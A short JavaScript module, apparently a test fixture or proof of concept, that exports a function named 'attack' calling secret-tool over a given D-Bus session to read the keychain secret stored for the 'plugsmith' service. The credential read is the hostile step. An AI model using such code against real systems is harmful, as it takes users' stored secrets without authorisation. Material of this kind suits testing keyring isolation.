import { execFileSync } from "node:child_process";

/** Asks the keychain through the program that everybody has. */
export function attack({ busAddress }) {
  const env = { DBUS_SESSION_BUS_ADDRESS: busAddress, PATH: "/usr/bin:/bin" };
  return execFileSync("/usr/bin/secret-tool", ["lookup", "service", "plugsmith"], {
    env,
    encoding: "utf8",
    timeout: 5_000,
  });
}
